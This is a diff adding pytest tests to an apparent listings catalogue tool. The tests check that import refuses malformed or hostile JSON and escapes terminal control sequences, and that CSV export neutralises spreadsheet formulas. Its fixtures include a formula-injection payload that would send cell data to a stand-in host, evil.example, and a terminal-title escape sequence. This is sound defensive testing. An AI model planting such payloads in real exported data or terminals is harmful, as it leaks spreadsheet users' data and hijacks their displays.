@@ -324,3 +324,104 @@ def test_hsds_from_elsewhere_gets_a_slug_from_its_name(run, seeded, tmp_path):
     with Session(seeded) as session:
         (submission,) = session.exec(select(Submission)).all()
         assert submission.type == "new" and submission.proposed["name"] == "Far Away Books"
+
+
+def _nested(depth: int) -> bytes:
+    return b"[" * depth + b"]" * depth
+
+
+@pytest.mark.parametrize(
+    ("content", "reason"),
+    [
+        (_nested(100_000), "nested more than"),
+        ('{"organisations": [{"name": ' + "[" * 500 + "]" * 500 + "}]}", "nested more than"),
+        (b'[{"name": "Caf\xe9 Solidarity"}]', "not UTF-8 text"),
+        (b"\xff\xfe[\x00]\x00", "not UTF-8 text"),
+        ("not json at all", "not JSON"),
+        ('{"founded_year": ' + "9" * 5000 + "}", "not JSON"),
+        ("", "the file is empty"),
+        ("  \n", "the file is empty"),
+    ],
+    ids=[
+        "nested 100,000 deep",
+        "nested 500 deep in a record",
+        "Latin-1",
+        "UTF-16",
+        "not JSON",
+        "a 5,000-digit number",
+        "empty",
+        "only blanks",
+    ],
+)
+def test_a_file_that_cannot_be_read_as_listings_is_refused_in_one_line(
+    run, seeded, tmp_path, content, reason
+):
+    source = tmp_path / "hostile.json"
+    if isinstance(content, str):
+        source.write_text(content, encoding="utf-8")
+    else:
+        source.write_bytes(content)
+    result = run("import", str(source))
+    assert result.exit_code == 1
+    assert result.stderr.startswith(f"Cannot import {source}: {reason}")
+    assert len(result.stderr.splitlines()) == 1
+    assert result.stdout == ""
+
+
+@pytest.mark.parametrize(
+    ("make", "reason"),
+    [
+        (lambda path: path.mkdir(), "it is a directory"),
+        (lambda path: None, "no such file"),
+    ],
+    ids=["a directory", "missing"],
+)
+def test_a_path_that_is_not_a_readable_file_is_refused_in_one_line(
+    run, seeded, tmp_path, make, reason
+):
+    source = tmp_path / "listings.json"
+    make(source)
+    result = run("import", str(source))
+    assert result.exit_code == 1
+    assert result.stderr.startswith(f"Cannot import {source}: {reason}")
+    assert len(result.stderr.splitlines()) == 1
+
+
+def test_a_record_that_would_garble_the_terminal_is_reported_escaped(run, seeded, tmp_path):
+    listing = ourjson.listing(factories.record())
+    del listing["slug"]
+    listing["name"] = "\x1b]0;owned\x07\ud800 Group"  # a terminal title, a lone surrogate
+    source = tmp_path / "listings.json"
+    source.write_text(json.dumps([listing]), encoding="utf-8")  # ASCII: \\ud800 stays escaped
+    result = run("import", str(source))
+    assert result.exit_code == 1
+    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
+    assert "record #1 (\\x1b]0;owned\\x07\\ud800 Group): field 'slug'" in result.stderr
+
+
+def test_csv_export_read_back_holds_formulas_as_text(run, seeded):
+    with Session(seeded) as session:
+        catalogue.upsert(
+            session,
+            factories.record(
+                slug="formula-group",
+                name='=HYPERLINK("https://evil.example/?"&A1,"Click")',
+                alternate_names=["@SUM(A1:A9)", "+1"],
+                description="-2+3 people write letters to people held in prison.",
+                longitude=-4.25,
+                latitude=55.86,
+            ),
+        )
+        session.commit()
+    result = run("export", "--format", "csv")
+    assert result.exit_code == 0
+    header, *rows = csv.reader(io.StringIO(result.stdout, newline=""))
+    row = dict(zip(header, next(r for r in rows if r[0] == "formula-group"), strict=True))
+    assert row["name"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    assert row["alternate_names"] == "'@SUM(A1:A9) | +1"
+    assert row["description"] == "'-2+3 people write letters to people held in prison."
+    assert row["longitude"] == "-4.25"
+    numbers = {"latitude", "longitude"}
+    for row in rows:  # no text cell of any listing starts as a formula would
+        cells = (cell for name, cell in zip(header, row, strict=True) if name not in numbers)
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
